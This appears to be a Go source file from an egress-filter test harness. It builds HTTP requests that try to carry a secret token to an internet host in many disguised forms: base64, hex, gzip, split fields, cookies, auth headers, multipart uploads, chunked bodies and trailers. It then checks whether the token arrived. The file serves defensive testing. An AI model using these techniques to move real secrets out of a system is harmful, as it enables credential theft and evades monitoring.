package attack

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
)

// A parcel is one way to pack a secret into a call that is allowed otherwise.
type parcel struct {
	name, what string
	request    func(url, secret string) (*http.Request, error)
	// needles are what must arrive for the secret to have arrived, besides the
	// secret itself; nil where that is all.
	needles func(secret string) []string
}

func post(contentType string, body func(secret string) string) func(url, secret string) (*http.Request, error) {
	return func(url, secret string) (*http.Request, error) {
		req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body(secret)))
		if err == nil {
			req.Header.Set("Content-Type", contentType)
		}
		return req, err
	}
}

func get(change func(req *http.Request, secret string)) func(url, secret string) (*http.Request, error) {
	return func(url, secret string) (*http.Request, error) {
		req, err := http.NewRequest(http.MethodGet, url, nil)
		if err == nil {
			change(req, secret)
		}
		return req, err
	}
}

// compressed returns s by gzip; the same for the same s.
func compressed(s string) string {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	_, _ = io.WriteString(z, s)
	_ = z.Close()
	return b.String()
}

func gzipped(s string) string {
	return base64.StdEncoding.EncodeToString([]byte(compressed(`{"note":"` + s + `"}`)))
}
func encoded(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
func hexed(s string) string   { return fmt.Sprintf("%x", s) }

// halves cuts a secret in two.
func halves(s string) []string { return []string{s[:20], s[20:]} }

func one(f func(string) string) func(string) []string {
	return func(s string) []string { return []string{f(s)} }
}

func parcels() []parcel {
	return []parcel{
		{"body", "a token as the text of a request", post("text/plain", func(s string) string { return s }), nil},
		{"json", "a token in a field of JSON", post("application/json", func(s string) string { return `{"a":[{"note":"see ` + s + `"}]}` }), nil},
		{"form", "a token in a form", post("application/x-www-form-urlencoded", func(s string) string { return "a=1&b=" + url.QueryEscape("x "+s) }), nil},
		{"url", "a token in the query of an address", get(func(r *http.Request, s string) { r.URL.RawQuery = "q=" + s }), nil},
		{"path", "a token in the path of an address", get(func(r *http.Request, s string) { r.URL.Path = "/img/" + s + ".png" }), nil},
		{"percent", "a token in an address, every letter escaped", get(func(r *http.Request, s string) { r.URL.RawQuery = "q=" + percent(s) }), one(percent)},
		{"header", "a token in a field of the head", get(func(r *http.Request, s string) { r.Header.Set("X-Note", s) }), nil},
		{"cookie", "a token in a cookie", get(func(r *http.Request, s string) { r.Header.Set("Cookie", "id="+s) }), nil},
		{"authorization", "a token of one service shown to another", get(func(r *http.Request, s string) { r.Header.Set("Authorization", "Bearer "+s) }), nil},
		{"basic", "a token as the password of another service", get(func(r *http.Request, s string) { r.SetBasicAuth("x", s) }), one(func(s string) string { return encoded("x:" + s) })},
		{"method", "a token as the method of a request", func(url, s string) (*http.Request, error) { return http.NewRequest(s, url, nil) }, nil},
		{"base64", "a token in base64", post("text/plain", encoded), one(encoded)},
		{"base64 twice", "a token in base64 of base64", post("text/plain", func(s string) string { return encoded(encoded(s)) }), one(func(s string) string { return encoded(encoded(s)) })},
		{"hex", "a token in hexadecimal", post("text/plain", hexed), one(hexed)},
		{"gzip", "a token in a compressed body", packed(compressed), nil},
		{"gzip and base64", "a token in JSON, compressed, in base64, in JSON", post("application/json", func(s string) string { return `{"data":"` + gzipped(s) + `"}` }), one(gzipped)},
		{"json escapes", "a token in JSON, every letter escaped", post("application/json", func(s string) string { return `{"note":"` + escaped(s) + `"}` }), one(escaped)},
		{"split json", "a token in two fields of JSON", post("application/json", func(s string) string { return fmt.Sprintf(`{"a":%q,"b":%q}`, halves(s)[0], halves(s)[1]) }), halves},
		{"split lines", "a token over two lines of text", post("text/plain", func(s string) string { return strings.Join(halves(s), "\n") }), halves},
		{"multipart", "a token in an uploaded file", upload, nil},
		{"chunks", "a token cut over pieces of an upload of unknown length", chunked, nil},
		{"trailer", "a token in the trailer of an upload", trailer, nil},
		{"large", "a token behind half a megabyte", post("text/plain", func(s string) string { return strings.Repeat("all work and no play ", 25000) + s }), nil},
	}
}

func percent(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, "%%%02X", c)
	}
	return b.String()
}

func escaped(s string) string {
	var b strings.Builder
	for _, c := range []byte(s) {
		fmt.Fprintf(&b, `\u%04x`, c)
	}
	return b.String()
}

func packed(pack func(string) string) func(url, secret string) (*http.Request, error) {
	return func(url, secret string) (*http.Request, error) {
		req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(pack("a token: "+secret)))
		if err == nil {
			req.Header.Set("Content-Encoding", "gzip")
			req.Header.Set("Content-Type", "text/plain")
		}
		return req, err
	}
}

func upload(url, secret string) (*http.Request, error) {
	var b bytes.Buffer
	m := multipart.NewWriter(&b)
	part, err := m.CreateFormFile("file", "notes.txt")
	if err != nil {
		return nil, err
	}
	fmt.Fprintf(part, "first line\n%s\nlast line\n", secret)
	if err := m.Close(); err != nil {
		return nil, err
	}
	req, err := http.NewRequest(http.MethodPost, url, &b)
	if err == nil {
		req.Header.Set("Content-Type", m.FormDataContentType())
	}
	return req, err
}

// pieces gives its texts one at a time.
type pieces []string

func (p *pieces) Read(b []byte) (int, error) {
	if len(*p) == 0 {
		return 0, io.EOF
	}
	n := copy(b, (*p)[0])
	if (*p)[0] = (*p)[0][n:]; (*p)[0] == "" {
		*p = (*p)[1:]
	}
	return n, nil
}

func chunked(url, secret string) (*http.Request, error) {
	all := pieces{"a token: "}
	for i := 0; i < len(secret); i += 7 {
		all = append(all, secret[i:min(i+7, len(secret))])
	}
	return http.NewRequest(http.MethodPost, url, io.NopCloser(&all))
}

func trailer(url, secret string) (*http.Request, error) {
	req, err := http.NewRequest(http.MethodPost, url, io.NopCloser(&pieces{"nothing to see"}))
	if err == nil {
		req.Trailer = http.Header{"X-Checksum": {secret}}
	}
	return req, err
}

// parcelTries returns a try for each parcel: by TLS, and the plainest in clear, too.
func parcelTries() []Try {
	var all []Try
	for _, p := range parcels() {
		all = append(all, p.try("https"))
		if p.name == "body" || p.name == "url" {
			all = append(all, p.try("http"))
		}
	}
	return all
}

func (c parcel) try(scheme string) Try {
	name := "secret in " + c.name
	if scheme == "http" {
		name += " in clear"
	}
	return Try{Name: name, Group: groupSecrets, What: "send " + c.what, Seen: "the token arrives at a server of the internet",
		do: func(ctx context.Context, p *Plan, t Try) Said {
			req, err := c.request(scheme+"://"+t.host()+"/", p.Secrets[t.Name])
			if err != nil {
				return closed(err)
			}
			return carry(req.WithContext(ctx))
		}}
}

// carry makes a request and says what came of it.
func carry(req *http.Request) Said {
	status, text, err := fetch(req)
	to := addressOf(req)
	switch {
	case err != nil:
		return closed(err).toward(to)
	case strings.HasPrefix(text, "REACHED"):
		return sent("it arrived", to)
	}
	return sent(fmt.Sprintf("answered with %d", status), to)
}

// needles returns what must arrive at the internet for the secret of t to have
// arrived: any of the sets, all of a set.
func needles(t Try, p *Plan) [][][]byte {
	secret := p.Secrets[t.Name]
	sets := [][][]byte{{[]byte(secret)}, {[]byte(secretName(p, t)[:40]), []byte(secretName(p, t)[41:73])}}
	if t.Name == "dns tunnel" {
		for i := range tunnelNames {
			sets = append(sets, [][]byte{[]byte(tunnelled(p, i))})
		}
	}
	for _, c := range parcels() {
		if c.needles == nil || t.Name != "secret in "+c.name {
			continue
		}
		var set [][]byte
		for _, n := range c.needles(secret) {
			set = append(set, []byte(n))
		}
		sets = append(sets, set)
	}
	return sets
}
